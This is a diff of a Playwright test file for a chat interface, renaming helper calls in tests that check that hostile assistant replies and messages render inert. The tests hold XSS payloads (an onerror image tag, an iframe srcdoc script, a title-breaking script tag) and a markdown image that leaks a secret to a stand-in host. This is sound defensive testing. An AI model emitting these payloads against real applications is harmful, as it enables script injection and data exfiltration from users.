@@ -2,7 +2,7 @@
 // UX-41 of docs/acceptance.md.
 import type { Locator, Page } from "@playwright/test";
 
-import { begin, expectStatus, hydrated, latestReply, open, send, textOf } from "../../support/chat.ts";
+import { startChat, expectStatus, waitForHydration, latestReply, openPage, sendMessage, textOf } from "../../support/chat.ts";
 import { expect, test } from "../../support/fixtures.ts";
 
 const XSS = "window.__xss=1";
@@ -57,11 +57,11 @@ test("a hostile reply does nothing, live or reloaded", async ({ page, model }) =
   });
   for (const [index, [id, text, shown]] of rows.entries()) {
     await test.step(id, async () => {
-      if (index === 0) await begin(page, id);
-      else await send(page, id);
-      const reply = await model.next();
-      reply.say(text);
-      reply.end();
+      if (index === 0) await startChat(page, id);
+      else await sendMessage(page, id);
+      const reply = await model.nextReply();
+      reply.sendText(text);
+      reply.finish();
       await expect(page.locator("article[data-role=assistant]")).toHaveCount(index + 1);
       await expectStatus(latestReply(page), "complete");
       if (shown) await expect(textOf(latestReply(page))).toContainText(shown);
@@ -70,32 +70,32 @@ test("a hostile reply does nothing, live or reloaded", async ({ page, model }) =
     });
   }
   await page.reload();
-  await hydrated(page);
+  await waitForHydration(page);
   for (const turn of await page.locator("article[data-role=assistant]").all()) await expectInert(page, turn);
 });
 
 test("a hostile reply is inert at every byte", async ({ page, model }) => {
-  await begin(page, "byte by byte");
-  const reply = await model.next();
+  await startChat(page, "byte by byte");
+  const reply = await model.nextReply();
   const text = `<img src=x onerror=${XSS}>\n\n![x](https://canary.test/p?q=SECRET)\n\n<iframe srcdoc="<script>parent.__xss=1</script>">end`;
-  for (const character of text) reply.say(character);
+  for (const character of text) reply.sendText(character);
   await expect(textOf(latestReply(page))).toContainText("end");
   await expectInert(page, latestReply(page));
-  reply.end();
+  reply.finish();
   await expectStatus(latestReply(page), "complete");
   await expectInert(page, latestReply(page));
 });
 
 test("a hostile message and title are text", async ({ page, model }) => {
   const hostile = `</title><script>${XSS}</script>`;
-  await begin(page, hostile);
-  const reply = await model.next();
-  reply.say("fine");
-  reply.end();
+  await startChat(page, hostile);
+  const reply = await model.nextReply();
+  reply.sendText("fine");
+  reply.finish();
   await expectStatus(latestReply(page), "complete");
   await expect(page.locator("article[data-role=user]")).toContainText(hostile);
   const path = new URL(page.url()).pathname;
-  await open(page, path);
+  await openPage(page, path);
   expect(await page.evaluate(() => "__xss" in window)).toBe(false);
   const html = await page.context().request.get(path).then((answer) => answer.text());
   expect(html).not.toContain(`<script>${XSS}`);
@@ -108,13 +108,13 @@ test("an image elsewhere is a card that asks for nothing until it is opened", as
     asked.push(route.request().url());
     return route.fulfill({ contentType: "text/plain", body: "an image" });
   });
-  await begin(page, "Show");
-  (await model.next()).answer("Look: ![a cat](https://canary.test/cat.png)");
+  await startChat(page, "Show");
+  (await model.nextReply()).finishWithText("Look: ![a cat](https://canary.test/cat.png)");
   await expectStatus(latestReply(page), "complete");
   const card = textOf(latestReply(page)).locator(".md-image").filter({ hasText: "a cat" });
   await expect(card).toContainText("canary.test");
   await page.reload();
-  await hydrated(page);
+  await waitForHydration(page);
   await expect(card).toContainText("canary.test");
   await expect(latestReply(page).locator("img")).toHaveCount(0);
   expect(asked).toEqual([]);
